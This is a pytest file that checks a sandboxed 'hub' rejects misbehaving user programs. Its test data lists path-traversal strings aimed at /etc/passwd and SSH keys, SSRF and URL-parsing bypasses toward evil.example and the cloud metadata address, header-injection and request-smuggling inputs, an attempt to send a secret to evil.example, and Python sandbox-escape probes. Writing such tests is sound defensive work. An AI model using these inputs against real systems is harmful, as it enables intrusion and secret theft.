"""Programs that misuse each function of the hub: every one ends as one failed call, and nothing comes of it."""

from pathlib import Path

import pytest

from hub.errors import ToolError
from hub.packages.scripts import Scripts
from hub.testing import FakeEgress
from tests.unit.packages.outfit import KEY, Folders, Notes, a_call, a_program, an_answer, supplies, tool_of

PERMISSIONS = """
net = ["api.example.org"]
secrets = ["KEY"]
fs = ["data", "workspace:rw"]
messages = ["read:task", "send:task"]
tools = ["convert_units"]
schedule = true
limits = { seconds = 0.5, memory_mb = 32, calls = 10 }
"""
URL = "https://api.example.org/"

PATHS = {
    "climbs out": "../hub.db",
    "climbs out of a folder": "notes/../../hub.db",
    "starts at the root": "/etc/passwd",
    "starts at the root twice": "//etc/passwd",
    "goes home": "~/.ssh/id_rsa/../../x",
    "names a hidden file": ".env",
    "names a hidden folder": "a/.git/config",
    "names itself": ".",
    "names nothing": "",
    "ends in a folder": "notes/",
    "climbs as Windows does": "..\\hub.db",
    "names a drive": "C:\\boot.ini",
    "hides a NUL": "a.txt\x00.png",
    "hides a line": "a\nb",
    "turns letters about": "a\u202etxt.exe",
    "takes no space": "a\u200bb",
    "never ends": "a" * 5_000,
    "is deep": "a/" * 300 + "b",
}
URLS = {
    "another host": "https://evil.example/",
    "a user before the host": "https://api.example.org@evil.example/",
    "a host as user": "https://evil.example@api.example.org/",
    "a password": "https://a:b@api.example.org/",
    "another port": "https://api.example.org:8443/",
    "plain http": "http://api.example.org/",
    "a subdomain": "https://x.api.example.org/",
    "a longer domain": "https://api.example.org.evil.example/",
    "a dot at the end": "https://api.example.org./",
    "a backslash": "https://api.example.org\\@evil.example/",
    "a backslash for a slash": "https:\\\\evil.example/",
    "a fragment as host": "https://api.example.org#@evil.example/",
    "a NUL": "https://api.example.org\x00.evil.example/",
    "a line": "https://api.example.org/\r\nHost: evil.example",
    "a tab in the scheme": "ht\ttps://evil.example/",
    "letters that look alike": "https://\u0430pi.example.org/",
    "wide letters": "https://\uff41pi.example.org/",
    "an address": "https://127.0.0.1/",
    "an address as number": "https://2130706433/",
    "metadata": "http://169.254.169.254/latest/",
    "IPv6": "https://[::1]/",
    "a file": "file:///etc/passwd",
    "a socket": "unix:///var/run/docker.sock",
    "data": "data:text/plain,x",
    "no scheme": "//evil.example/",
    "nothing": "",
    "no end": "https://api.example.org/" + "a" * 10_000,
}
PROGRAMS = {
    "injects a header by its value": f'await get("{URL}", headers={{"a": "b\\r\\nHost: evil.example"}})',
    "injects a header by its name": f'await get("{URL}", headers={{"a: b\\r\\nc": "d"}})',
    "sets the host": f'await get("{URL}", headers={{"HOST": "evil.example"}})',
    "smuggles by length": f'await post("{URL}", "a", headers={{"Content-Length": "0"}})',
    "smuggles by chunks": f'await post("{URL}", "a", headers={{"Transfer-Encoding": "chunked"}})',
    "goes by a proxy": f'await get("{URL}", headers={{"Proxy-Authorization": "a"}})',
    "sends a thousand headers": f'await get("{URL}", headers={{str(n): "a" for n in range(1000)}})',
    "sends a huge header": f'await get("{URL}", headers={{"a": "b" * 100000}})',
    "sends headers that are none": f'await get("{URL}", headers=[("a", "b")])',
    "sends a header that's no text": f'await get("{URL}", headers={{"a": 1}})',
    "sends a huge body": f'await post("{URL}", "a" * 5000000)',
    "sends a circle": f"x = []\nx.append(x)\nawait post('{URL}', {{('a', 1): x}})",
    "invents a method": f'await request("CONNECT", "{URL}")',
    "injects by the method": f'await request("GET / HTTP/1.1\\r\\nX: y", "{URL}")',
    "asks a number": "await get(7)",
    "asks a list": f'await get(["{URL}"])',
    "gives what isn't taken": f'await get("{URL}", timeout=9999)',
    "gives too little": "await get()",
    "gives too much": f'await get("{URL}", {{}}, None, [], hosts=["evil.example"])',
    "widens its hosts": f'await get("{URL}", hosts=["evil.example"])',
    "reads the secret's name": 'await get("https://evil.example/?a={{KEY}}")',
    "writes a huge file": 'await write_file("a.txt", "a" * 5000000)',
    "writes what's no text": 'await write_file("a.txt", b"abc")',
    "writes a document that's none": 'await write("a", [1])',
    "writes a huge document": 'await write("a", {"b": "x" * 3000000})',
    "reads another's document": 'await read("../other")',
    "reads a document by number": "await read(3)",
    "says nothing": 'await say("  ")',
    "says a number": "await say(7)",
    "says too much": 'await say("a" * 100000)',
    "plans a book": 'await plan("in 20m", "a" * 100000)',
    "plans at a book": 'await plan("a" * 1000, "a")',
    "plans nothing": 'await plan("in 20m", "")',
    "uses another tool": 'await use("remember", {"fact": "x"})',
    "uses a tool by a list": 'await use(["convert_units"], {})',
    "uses a tool with a list": 'await use("convert_units", [1])',
    "uses a tool with odd names": 'await use("convert_units", {1: 2})',
    "uses a tool with a thousand arguments": 'await use("convert_units", {str(n): n for n in range(1000)})',
    "asks without leave": 'await ask("who?")',
    "asks for ever": f'while True:\n    try:\n        await get("{URL}")\n    except BaseException:\n        pass',
    "says for ever": 'while True:\n    await say("hello")',
    "asks all at once": f'import asyncio\nawait asyncio.gather(*[get("{URL}") for _ in range(500)])',
    "reads a function's inside": "return get.__globals__",
    "reads a function's code": "return get.__code__.co_consts",
    "reads an answer's class": f'return (await get("{URL}")).__class__.__mro__[1].__subclasses__()',
    "walks up an error": (
        'try:\n    await read(3)\nexcept ValueError as error:\n    return error.__traceback__.tb_frame.f_globals["KEY"]'
    ),
}
MOST = 10 + 20


async def failed(folder: Path, scripts: Scripts, program: str) -> tuple[str, FakeEgress, Notes, Folders]:
    """Run a program that has to fail; return why, and what came of it."""
    notes = Notes("hello")
    given = supplies({URL: an_answer("{}")}, {"kept.txt": b"kept"}, notes)
    tool = tool_of(a_program(folder, PERMISSIONS, program, "once"), scripts, given)
    with pytest.raises(ToolError) as caught:
        await tool.call(a_call())
    assert isinstance(given.egress, FakeEgress)
    assert isinstance(given.workspaces, Folders)
    return str(caught.value), given.egress, notes, given.workspaces


@pytest.mark.parametrize("way", PROGRAMS)
async def test_a_program_that(way: str, tmp_path: Path, scripts: Scripts) -> None:
    told, egress, notes, folders = await failed(tmp_path, scripts, PROGRAMS[way])

    assert told.startswith("The program failed: "), told
    assert KEY not in told
    assert "hub.packages" not in told
    assert "_Net" not in told
    assert "<locals>" not in told
    assert len(egress.asked) + len(notes.done) <= MOST
    assert all(asked[1] == URL and asked[0] == "GET" for asked in egress.asked)
    assert list(folders.files.values()) == [b"kept"]


@pytest.mark.parametrize("way", PATHS)
@pytest.mark.parametrize("call", ["read_file(path)", 'write_file(path, "x")', "remove_file(path)"])
async def test_a_path_that(call: str, way: str, tmp_path: Path, scripts: Scripts) -> None:
    told, *_, folders = await failed(tmp_path, scripts, f"path = {PATHS[way]!r}\nawait {call}")

    assert "ValueError" in told, told
    assert list(folders.files.values()) == [b"kept"]


@pytest.mark.parametrize("path", ["7", "None", "['a.txt']", "b'a.txt'", "{}"])
async def test_a_path_that_is_no_text(path: str, tmp_path: Path, scripts: Scripts) -> None:
    told, *_ = await failed(tmp_path, scripts, f"await read_file({path})")

    assert "a path is a text" in told


@pytest.mark.parametrize("way", URLS)
@pytest.mark.parametrize("call", ["get(url)", 'post(url, "x")', 'request("DELETE", url)'])
async def test_a_url_with(call: str, way: str, tmp_path: Path, scripts: Scripts) -> None:
    told, egress, *_ = await failed(tmp_path, scripts, f"url = {URLS[way]!r}\nawait {call}")

    assert "ValueError" in told or "PermissionError" in told, told
    assert egress.asked == []
